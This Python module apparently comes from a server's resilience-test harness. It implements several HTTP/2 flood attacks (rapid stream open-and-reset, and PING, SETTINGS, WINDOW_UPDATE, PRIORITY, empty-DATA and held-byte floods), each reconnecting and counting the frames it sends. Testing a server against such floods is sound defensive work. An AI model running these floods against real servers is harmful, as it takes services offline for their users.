"""Attacks with frames that cost their sender next to nothing. Each attacker sends until its deadline, reconnects when it is
disconnected, and counts what it has sent.
"""

import contextlib
import itertools
import select
import struct
import time

import http2
import services

BLOCK = 2000
STREAMS = 1000
# Delay before an attacker reconnects, in seconds.
RECONNECT_DELAY = 0.02


def _pump(transport, block, deadline, counts, report, pause=0.0, read=True):
    """Sends blocks until the deadline or the end of the transport. `block()` returns bytes and their number of frames."""
    transport.socket.setblocking(False)
    while time.monotonic() < deadline:
        data, frames = block()
        view = memoryview(data)
        while view:
            readable, writable, _ = select.select([transport.socket] if read else [], [transport.socket], [], 0.1)
            if readable:
                transport.receive(0)
            if transport.closed or time.monotonic() > deadline:
                return
            if writable:
                try:
                    view = view[transport.socket.send(view):]
                except BlockingIOError:
                    pass
                except OSError:
                    return
        counts["frames"] += frames
        report(counts)
        if transport.goaway is not None:
            return
        if pause:
            time.sleep(pause)


class _Attack:
    """Calls `act(transport, deadline, counts, report)` on one transport after the other until the deadline. It is pickled for
    another process, so `act` must be a function of this module."""

    def __init__(self, act, **options):
        self.act, self.options = act, options

    def __call__(self, deadline, report, address, *arguments):
        counts = {"frames": 0, "transports": 0}
        while time.monotonic() < deadline:
            # Being disconnected is expected.
            with contextlib.suppress(OSError, http2.Closed, TimeoutError):
                with http2.Transport(address, keep=False, **self.options) as transport:
                    counts["transports"] += 1
                    # Take the server's settings and windows first.
                    transport.receive(0.2)
                    self.act(transport, deadline, counts, report, *arguments)
            report(counts)
            time.sleep(RECONNECT_DELAY)


def _always(data, frames):
    return lambda: (data, frames)


def _open_and_reset(transport, deadline, counts, report, path, pairs, pause):
    streams = itertools.count(1, 2)
    headers = http2.header_block(path)
    # The same as `http2.frame`, split around the stream id.
    head = http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM * (path != services.CHAT), 0, headers)[:5]
    tail = http2.reset(0)[9:]
    cut = http2.reset(0)[:5]

    def block():
        parts = []
        for stream in itertools.islice(streams, pairs):
            number = struct.pack(">I", stream)
            parts += (head, number, headers, cut, number, tail)
        return b"".join(parts), 2 * pairs

    _pump(transport, block, deadline, counts, report, pause)


def _window_updates(transport, deadline, counts, report):
    stream = transport.open(services.WATCH, b"", end=False)
    block = (http2.window_update(0, 1) + http2.window_update(stream, 1)) * (BLOCK // 2)
    _pump(transport, _always(block, BLOCK), deadline, counts, report)


def _pings(transport, deadline, counts, report, read):
    _pump(transport, _always(http2.frame(http2.PING, 0, 0, b"12345678") * BLOCK, BLOCK), deadline, counts, report,
          read=read)


def _settings(transport, deadline, counts, report, path):
    for _ in range(STREAMS):
        transport.open(path, None if path == services.CHAT else b"", end=False)
    toggle = http2.settings(initial_window_size=0) + http2.settings(initial_window_size=2**20)
    _pump(transport, _always(toggle * 100, 200), deadline, counts, report)


def _empty_data(transport, deadline, counts, report, path):
    stream = transport.open(path, None if path == services.CHAT else b"", end=False)
    _pump(transport, _always(http2.frame(http2.DATA, 0, stream) * BLOCK, BLOCK), deadline, counts, report)


def _priorities(transport, deadline, counts, report):
    frame = http2.frame(http2.PRIORITY, 0, 99, struct.pack(">IB", 1, 15))
    _pump(transport, _always(frame * BLOCK, BLOCK), deadline, counts, report)


def _unread_bytes(transport, deadline, counts, report):
    """Single bytes after a complete request, which no handler reads. The windows are respected."""
    while time.monotonic() < deadline and not transport.closed and transport.goaway is None:
        stream = transport.open(services.WATCH, b"", end=False)
        size = min(BLOCK * 8, transport.room_to_send(stream))
        if size <= 0:
            break
        transport.send(transport.single_bytes(stream, size))
        counts["frames"] += size
        report(counts)
        transport.receive(0)
    # All credit is used: keep the server holding those frames.
    while time.monotonic() < deadline and not transport.closed and transport.goaway is None:
        transport.receive(0.1)


open_and_reset = _Attack(_open_and_reset)
window_updates = _Attack(_window_updates, window=65535, transport_window=65535)
pings = _Attack(_pings)
settings_toggled = _Attack(_settings)
empty_data = _Attack(_empty_data)
priorities = _Attack(_priorities)
unread_bytes = _Attack(_unread_bytes)
